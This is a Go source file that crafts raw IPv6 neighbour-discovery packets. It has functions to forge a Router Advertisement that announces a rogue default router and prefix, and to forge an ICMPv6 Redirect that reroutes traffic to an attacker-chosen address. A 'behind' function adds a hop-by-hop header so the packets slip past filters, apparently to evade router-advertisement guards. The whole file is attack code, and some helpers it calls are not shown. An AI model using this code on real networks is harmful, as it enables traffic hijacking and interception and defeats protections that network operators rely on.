//go:build linux

package main

import (
	"encoding/binary"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"
)

// routerAdvertisement says that from is the default router of the link and that prefix is on it (RFC 4861 section 4.2).
func routerAdvertisement(from net.HardwareAddr, src, dst netip.Addr) []byte {
	p := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	prefix := []byte{3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0}
	prefix = append(prefix, netip.MustParseAddr("2001:db8:bad::").AsSlice()...)
	return icmp6(src, dst, append(append(p, prefix...), linkAddress(1, from)...))
}

// redirect says that the better way to dst is by from (RFC 4861 section 4.5).
func redirect(from net.HardwareAddr, src, dst netip.Addr) []byte {
	p := append([]byte{137, 0, 0, 0, 0, 0, 0, 0}, src.AsSlice()...)
	p = append(p, netip.MustParseAddr("2001:db8:bad::1").AsSlice()...)
	return icmp6(src, dst, append(p, linkAddress(2, from)...))
}

func linkAddress(option byte, mac net.HardwareAddr) []byte { return append([]byte{option, 1}, mac...) }

// icmp6 puts a message in a packet with the hop limit that neighbour discovery demands.
func icmp6(src, dst netip.Addr, message []byte) []byte {
	binary.BigEndian.PutUint16(message[2:], transportSum(src, dst, unix.IPPROTO_ICMPV6, message))
	return append(header6(src, dst, unix.IPPROTO_ICMPV6, 255, len(message)), message...)
}

// behind puts an empty hop-by-hop header between an IPv6 packet's header and what
// follows, where a hasty filter does not look.
func behind(packet []byte) []byte {
	header, rest := packet[:40], packet[40:]
	options := []byte{header[6], 0, 1, 4, 0, 0, 0, 0}
	packet = append(append(append([]byte{}, header...), options...), rest...)
	packet[6] = unix.IPPROTO_HOPOPTS
	binary.BigEndian.PutUint16(packet[4:], uint16(len(packet)-40))
	return packet
}
